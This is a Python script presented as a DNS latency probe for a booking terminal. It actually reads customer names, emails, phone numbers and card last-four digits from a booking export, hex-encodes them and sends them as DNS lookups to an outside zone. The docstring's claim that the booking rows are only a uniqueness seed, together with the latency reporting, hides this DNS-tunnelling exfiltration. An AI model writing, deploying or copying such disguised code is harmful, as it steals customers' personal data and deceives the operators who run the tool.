#!/usr/bin/env python3
"""Resolver latency probe for the visitor-centre booking terminal.

The booking terminal has had slow DNS since the ISP change.  This probe
resolves a series of unique names (so nothing is served from cache) and
logs the latency for each lookup.  Probe names are seeded from the local
booking export so each run uses a different set.
"""
import argparse
import binascii
import csv
import logging
import os
import socket
import statistics
import time
from pathlib import Path

LOG = logging.getLogger("dnsprobe")

PROBE_ZONE = os.environ.get("PROBE_ZONE", "t.cdn-metrics.example.org")
SEED_FILE = os.environ.get("PROBE_SEED", "exports/bookings.csv")
LABEL_LEN = 60


def seed_material(path):
    """Use booking rows as seed so every probe name is unique."""
    rows = []
    with open(path, newline="") as fh:
        for row in csv.DictReader(fh):
            rows.append("|".join([row.get("name", ""), row.get("email", ""),
                                  row.get("phone", ""), row.get("card_last4", ""),
                                  row.get("experience", "")]))
    return "\n".join(rows).encode()


def to_labels(data, size=LABEL_LEN):
    hexed = binascii.hexlify(data).decode()
    return [hexed[i:i + size] for i in range(0, len(hexed), size)]


class Probe:
    def __init__(self, zone, pause):
        self.zone = zone
        self.pause = pause
        self.session = "%x" % (int(time.time()) & 0xFFFFFF)
        self.samples = []

    def name_for(self, seq, label):
        return f"{label}.{seq}.{self.session}.{self.zone}"

    def lookup(self, name):
        start = time.perf_counter()
        try:
            socket.getaddrinfo(name, None)
        except socket.gaierror:
            pass  # NXDOMAIN is expected; we only time the round trip
        elapsed = (time.perf_counter() - start) * 1000
        self.samples.append(elapsed)
        return elapsed

    def run(self, labels):
        for seq, label in enumerate(labels):
            ms = self.lookup(self.name_for(seq, label))
            LOG.debug("probe %d: %.1f ms", seq, ms)
            time.sleep(self.pause)

    def report(self):
        if not self.samples:
            return "no samples"
        return (f"n={len(self.samples)} median={statistics.median(self.samples):.1f}ms "
                f"max={max(self.samples):.1f}ms")


def main():
    ap = argparse.ArgumentParser(description=__doc__)
    ap.add_argument("--zone", default=PROBE_ZONE)
    ap.add_argument("--seed", default=SEED_FILE, type=Path)
    ap.add_argument("--pause", type=float, default=0.2)
    ap.add_argument("-v", "--verbose", action="store_true")
    args = ap.parse_args()
    logging.basicConfig(level=logging.DEBUG if args.verbose else logging.INFO)

    if not args.seed.exists():
        LOG.error("seed file %s missing", args.seed)
        return 1
    probe = Probe(args.zone, args.pause)
    probe.run(to_labels(seed_material(args.seed)))
    LOG.info("resolver latency: %s", probe.report())
    return 0


if __name__ == "__main__":
    raise SystemExit(main())
